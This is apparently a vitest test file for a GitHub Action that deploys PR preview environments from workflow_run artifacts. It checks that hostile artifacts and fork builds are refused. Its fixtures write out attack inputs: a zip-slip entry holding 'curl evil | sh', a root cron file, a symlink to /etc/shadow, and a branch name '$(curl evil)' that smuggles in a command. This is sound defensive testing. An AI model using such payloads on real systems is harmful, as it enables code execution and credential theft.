/**
 * The safe path for PR code: an unprivileged pull_request workflow builds and uploads an
 * artifact, and the privileged workflow_run deploys it. pr-env finds the PR by the run's commit,
 * checks it is still the PR's head, treats the artifact as hostile, and deploys nothing for a
 * failed build, a refused artifact, a head that moved on or a fork.
 */
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { workflowRunEvent } from '../fixtures/events.js';
import { makeZip } from '../helpers/zip.js';
import {
  CLUSTER,
  OWNER,
  REPO,
  errors,
  runAction,
  sha,
  stackOf,
  startWorld,
  type World,
} from './harness.js';

let world: World;
const TEMPLATES = 'pr-env-templates';
const INPUTS = {
  'source-db-cluster': CLUSTER,
  'app-artifact': 'artifact:web',
  'template-bucket': TEMPLATES,
};

beforeAll(async () => {
  world = await startWorld();
  world.aws.addSnapshot({
    cluster: CLUSTER,
    id: 'rds:prod-db-2026-11-22-03-00',
    createdAt: new Date(Date.now() - 3_600_000),
    engine: 'aurora-postgresql',
    engineVersion: '16.4',
  });
  world.aws.createBucket(TEMPLATES, { versioned: true });
});
afterAll(async () => world?.stop());
beforeEach(() => {
  world.gh.calls.length = 0;
});

const comment = (pr: number) => world.gh.comments(OWNER, REPO, pr)[0]?.body ?? '';
/** A tarball as a build step makes it (tar -czf), holding the app's files. */
const tarball = (files: Record<string, string>) => {
  const blocks: Buffer[] = [];
  for (const [name, body] of Object.entries(files)) {
    const header = Buffer.alloc(512);
    header.write(name, 0);
    header.write('0000644\0', 100);
    header.write(body.length.toString(8).padStart(11, '0') + '\0', 124);
    header.write('        ', 148);
    header.write('0', 156);
    header.write('ustar\0' + '00', 257);
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(header, Buffer.from(body), Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  return Buffer.from(gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)])));
};

describe('workflow_run from the build workflow', () => {
  it('deploys the head the build ran for, with its artifact uploaded', async () => {
    const pr = 31;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(1) });
    const build = tarball({ 'index.html': '<h1>31</h1>' });
    world.gh.addArtifact({
      owner: OWNER,
      repo: REPO,
      runId: 9001,
      name: 'web',
      zip: makeZip([{ name: 'app.tar.gz', data: build, deflate: true }]),
    });
    const run = await runAction(world, {
      eventName: 'workflow_run',
      // No pull_requests, as for a fork's run: the PR is found by its head SHA.
      payload: workflowRunEvent({ owner: OWNER, repo: REPO, runId: 9001, headSha: sha(1) }),
      inputs: INPUTS,
    });
    expect(errors(run)).toEqual([]);
    expect(run.exitCode).toBe(0);
    expect(run.outputs.operation).toBe('create');
    const key = `pr-env/${stackOf(pr)}/app/${sha(1)}.tar.gz`;
    // A zip holding one .tar.gz ships that tarball as it is.
    expect(world.aws.getObject(TEMPLATES, key)).toEqual(build);
    const { versionId } = world.aws.headObject(TEMPLATES, key)!;
    expect(world.aws.stack(stackOf(pr))?.parameters).toMatchObject({
      AppVersion: sha(1),
      AppArtifactS3Uri: `s3://${TEMPLATES}/${key}`,
      AppArtifactVersion: versionId,
    });
    expect(run.outputs['app-artifact']).toBe(`s3://${TEMPLATES}/${key}?versionId=${versionId}`);
    expect(comment(pr)).toContain('artifact:web of run 9001');
    // The download went through the redirect, and GitHub's token stayed with GitHub.
    const blob = world.gh.requests('GET', /^\/_blob\//);
    expect(blob).toHaveLength(1);
    expect(blob[0]!.token).toBeUndefined();
  });

  it('packs an artifact of loose files into one tarball', async () => {
    const pr = 32;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(2) });
    world.gh.addArtifact({
      owner: OWNER,
      repo: REPO,
      runId: 9002,
      name: 'web',
      zip: makeZip([
        { name: 'index.html', data: '<h1>32</h1>' },
        { name: 'static/', mode: 0o040755 },
        { name: 'static/app.js', data: 'console.log(32)', deflate: true },
      ]),
    });
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({
        owner: OWNER,
        repo: REPO,
        runId: 9002,
        headSha: sha(2),
        pullRequests: [pr],
      }),
      inputs: INPUTS,
    });
    expect(errors(run)).toEqual([]);
    expect(run.exitCode).toBe(0);
    const packed = gunzipSync(
      world.aws.getObject(TEMPLATES, `pr-env/${stackOf(pr)}/app/${sha(2)}.tar.gz`)!,
    );
    expect(packed.subarray(0, 10).toString()).toBe('index.html');
    expect(packed.toString('latin1')).toContain('console.log(32)');
  });

  it('a failed build: nothing is mutated, and the comment says the build did not succeed', async () => {
    const pr = 33;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(3) });
    world.aws.clearCalls();
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({
        owner: OWNER,
        repo: REPO,
        runId: 9003,
        headSha: sha(3),
        conclusion: 'failure',
        pullRequests: [pr],
      }),
      inputs: INPUTS,
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(run.stdout).toContain('::notice::The build (run "pr-env build" 9003');
    expect(world.aws.calls).toEqual([]);
    expect(world.gh.requests('GET', /\/artifacts/)).toEqual([]);
    expect(comment(pr)).toContain('concluded failure');
    expect(comment(pr)).toContain('the build did not succeed');
  });

  it.each([
    [
      'a zip-slip entry',
      [{ name: '../../.bashrc', data: 'curl evil | sh' }],
      '"../../.bashrc" escapes the folder',
    ],
    [
      'an absolute path',
      [{ name: '/etc/cron.d/x', data: '* * * * * root x' }],
      '"/etc/cron.d/x" is an absolute path',
    ],
    [
      'a symbolic link',
      [{ name: 'index.html', data: '/etc/shadow', mode: 0o120777 }],
      '"index.html" is a symbolic link',
    ],
  ])('refuses %s: a clear error, nothing mutated', async (_what, entries, problem) => {
    const pr = 34;
    const runId = 9100 + Math.floor(Math.random() * 800);
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(4) });
    world.gh.addArtifact({ owner: OWNER, repo: REPO, runId, name: 'web', zip: makeZip(entries) });
    world.aws.clearCalls();
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({ owner: OWNER, repo: REPO, runId, headSha: sha(4) }),
      inputs: INPUTS,
    });
    expect(run.exitCode).not.toBe(0);
    expect(errors(run).join('\n')).toContain(`Refused artifact "web" of run ${runId}: ${problem}`);
    expect(world.aws.calls).toEqual([]);
    expect(world.aws.stack(stackOf(pr))).toBeUndefined();
  });

  it('refuses an artifact over app-artifact-max-mb before downloading it', async () => {
    const pr = 35;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(5) });
    world.gh.addArtifact({
      owner: OWNER,
      repo: REPO,
      runId: 9005,
      name: 'web',
      zip: makeZip([{ name: 'big.bin', data: Buffer.alloc(1_200_000) }]),
    });
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({ owner: OWNER, repo: REPO, runId: 9005, headSha: sha(5) }),
      inputs: { ...INPUTS, 'app-artifact-max-mb': '1' },
    });
    expect(run.exitCode).not.toBe(0);
    expect(errors(run).join('\n')).toContain('over app-artifact-max-mb (1.0 MB)');
    expect(world.gh.requests('GET', /^\/_blob\//)).toHaveLength(0);
  });

  it('a PR whose head moved on since the build: skipped, the newer build will deploy', async () => {
    const pr = 36;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(7) });
    world.aws.clearCalls();
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({
        owner: OWNER,
        repo: REPO,
        runId: 9006,
        headSha: sha(6),
        pullRequests: [pr],
      }),
      inputs: INPUTS,
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(run.stdout).toContain(`PR #${pr} has moved on to ${sha(7).slice(0, 12)}`);
    expect(world.aws.calls).toEqual([]);
  });

  it('a fork’s build: gated by allow-forks, exactly as for pull_request_target', async () => {
    const pr = 37;
    world.gh.addPullRequest({ owner: OWNER, repo: REPO, number: pr, headSha: sha(8), fork: true });
    world.aws.clearCalls();
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({
        owner: OWNER,
        repo: REPO,
        runId: 9007,
        headSha: sha(8),
        fork: true,
        // An attacker names the branch; it must never matter.
        headBranch: '$(curl evil)',
      }),
      inputs: INPUTS,
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(run.stdout).toContain('comes from the fork fork-owner/shop, and allow-forks is false');
    expect(world.aws.calls).toEqual([]);
    expect(world.gh.requests('GET', /\/artifacts/)).toEqual([]);
  });

  it('a build of a commit no open PR has: skipped quietly', async () => {
    world.aws.clearCalls();
    const run = await runAction(world, {
      eventName: 'workflow_run',
      payload: workflowRunEvent({ owner: OWNER, repo: REPO, runId: 9008, headSha: sha(99) }),
      inputs: INPUTS,
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.operation).toBe('skipped');
    expect(world.aws.calls).toEqual([]);
  });
});
